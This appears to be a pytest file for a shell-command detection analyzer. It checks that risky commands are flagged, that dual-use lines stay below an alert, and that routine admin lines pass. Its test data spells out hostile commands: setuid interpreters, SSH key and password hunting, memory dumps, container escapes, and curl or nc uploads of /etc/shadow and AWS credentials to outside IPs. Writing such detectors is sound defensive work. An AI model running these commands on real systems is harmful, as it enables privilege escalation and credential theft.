"""Privilege, secrets, tunnels, exfiltration and container escapes read from sh/bash commands."""

from __future__ import annotations

import pytest

from tests.analyzers.heuristics.helpers import ids, score

SUSPICIOUS = 300


def shell(name: str) -> str:
    return f"heur.shell.{name}"


@pytest.mark.parametrize(("script", "heuristic"), [
    ("chmod u+s /bin/bash", "setuid_interpreter"),
    ("chmod 4755 /usr/bin/find", "setuid_interpreter"),
    ("setcap cap_setuid+ep /usr/bin/python3", "setuid_interpreter"),
    ("find / -name 'id_rsa*' 2>/dev/null", "private_key_hunt"),
    ("cat /root/.ssh/id_ed25519", "private_key_hunt"),
    ("grep -rni 'password' /home /etc 2>/dev/null", "private_key_hunt"),
    ("grep -i pass ~/.bash_history", "private_key_hunt"),
    ("dd if=/proc/$PID/mem of=/tmp/m bs=1 skip=$START", "process_memory_dump"),
    ("gcore -o /tmp/core 812", "process_memory_dump"),
    ("python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "pty_spawn"),
    ("docker run -v /:/host --rm -it alpine chroot /host sh", "container_escape"),
    ("nsenter --target 1 --mount --uts --ipc --net --pid -- bash", "container_escape"),
    ("echo '/var/tmp/.u/run' | at now + 2 minutes", "at_job_payload"),
    ("curl -T /etc/shadow ftp://198.51.100.4/in/", "file_upload"),
    ("curl --data-binary @/root/.aws/credentials https://203.0.113.3/c", "file_upload"),
    ("nc 198.51.100.4 9001 < /etc/passwd", "file_upload"),
    ("cp /dev/shm/.k/agent /usr/sbin/kthreadd-helper", "hidden_binary_install"),
])
def test_each_behaviour_is_flagged(script: str, heuristic: str) -> None:
    assert shell(heuristic) in ids(script)
    assert score(script) >= SUSPICIOUS


@pytest.mark.parametrize(("script", "heuristic"), [
    ("ssh -f -N -D 1080 ops@bastion.example", "ssh_socks_or_relay"),
    ("socat TCP-LISTEN:5432,fork TCP:db.internal:5432", "ssh_socks_or_relay"),
    ("zip -P \"$PASS\" backup.zip db.sql", "password_archive"),
    ("nmap -p 22,443 10.0.0.0/24", "network_scan"),
    ("find / -perm -4000 -type f", "suid_search"),
    ("sudo -l", "suid_search"),
    ("echo 'make -C /srv/app' | at 02:00", "at_job"),
])
def test_dual_use_lines_stay_below_an_alert(script: str, heuristic: str) -> None:
    assert shell(heuristic) in ids(script)
    assert score(script) < SUSPICIOUS


@pytest.mark.parametrize("script", [
    "chmod 755 /usr/local/bin/tool",
    "chmod g+s /srv/shared",
    "ssh -f -N -L 5432:db.internal:5432 ops@bastion.example",
    "nc -zv <domain_controller> 88",
    "curl -d '{\"a\":1}' https://api.example.com/v1",
    "cp /tmp/installers/tool/bin/tool /usr/local/bin/tool",
    "docker run --rm -v $PWD:/src golang:1.22 go build ./...",
    "grep -r TODO src/",
])
def test_ordinary_admin_lines_are_not_counted(script: str) -> None:
    assert not {i for i in ids(script) if i.startswith("heur.shell.")}
